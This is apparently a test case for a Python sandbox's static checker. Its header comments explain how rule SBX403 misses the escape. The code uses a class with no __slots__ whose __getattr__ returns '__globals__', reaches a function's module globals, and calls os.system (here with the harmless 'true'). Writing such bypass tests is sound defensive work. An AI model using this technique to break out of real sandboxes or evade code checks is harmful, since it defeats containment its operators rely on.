# family: slot_names
# reaches: process
# layer: static
# static: missed
# SBX403 admits getattr(own, name) for name in self.__slots__ when every __slots__ the program's
# classes declare is a display of public constant strings (here Point's). Route: Settings
# declares no __slots__ at all, so self.__slots__ falls through to its __getattr__, which
# returns ("name", "__globals__"); getattr(render, "__globals__") on the program's own function
# hands over the module's globals, and os.system is called on the os module taken from them.
import os


class Point:
    __slots__ = ("x", "y")

    def __init__(self, x, y):
        self.x = x
        self.y = y

    def __repr__(self):
        return ", ".join(f"{name}={getattr(self, name)}" for name in self.__slots__)


def render(obj):
    return repr(obj)


class Settings:
    def __getattr__(self, key):
        return ("name", "__globals__")

    def __init__(self):
        self.name = "demo"

    def hooks(self):
        found = []
        for name in self.__slots__:
            found.append(getattr(render, name, None))
        return found


print(render(Point(1, 2)))
scope = Settings().hooks()[-1]
scope["os"].system("true")
print(os.getcwd())
